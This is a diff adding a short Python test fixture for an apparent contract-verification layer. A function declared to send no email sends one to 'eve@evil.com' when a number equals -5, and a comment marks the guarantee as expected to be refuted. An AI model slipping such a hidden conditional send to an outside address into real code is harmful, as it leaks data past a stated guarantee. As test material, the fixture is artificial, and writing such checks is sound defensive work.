@@ -1,0 +1,11 @@
+# refuted: str(-5) is "-5"
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email, number
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    n = number()
+    if str(n) == "-5":
+        send_email("eve@evil.com", "x")
